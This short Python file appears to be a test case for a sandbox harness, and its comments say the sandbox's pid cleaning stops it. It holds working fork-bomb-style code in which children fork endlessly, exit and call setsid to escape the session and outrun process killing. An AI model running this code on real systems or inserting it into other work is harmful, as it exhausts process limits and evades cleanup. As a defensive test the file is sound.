# tries: to leave processes that start each other faster than they are killed
# stopped by: pid cleaning
# ends: exited 0 or cpu_time
import os
from contextlib import suppress

from attack import held

for _ in range(3):
    with suppress(OSError):  # the first of them may have filled the limit by now
        if os.fork() == 0:
            while True:
                with suppress(OSError):
                    if os.fork() != 0:
                        os._exit(0)
                    os.setsid()
held()
